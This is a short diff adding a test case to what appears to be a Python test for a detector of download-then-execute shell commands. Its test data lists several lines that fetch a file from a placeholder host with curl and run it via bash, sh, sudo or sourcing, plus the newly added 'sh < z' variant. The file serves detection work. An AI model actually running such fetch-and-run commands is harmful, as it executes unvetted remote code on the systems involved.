@@ -30,6 +30,7 @@ def runs_fetched(text: str) -> bool:
         "curl -o run http://h/x && bash ./run --now",
         "curl -o /tmp/run http://h/x; sudo /tmp/run",
         "curl http://h/x > z; sh -eo pipefail z",
+        "curl http://h/x > z; sh < z",
         "curl http://h/x | gunzip | tee -a /dev/shm/z; . /dev/shm/z",
     ],
 )
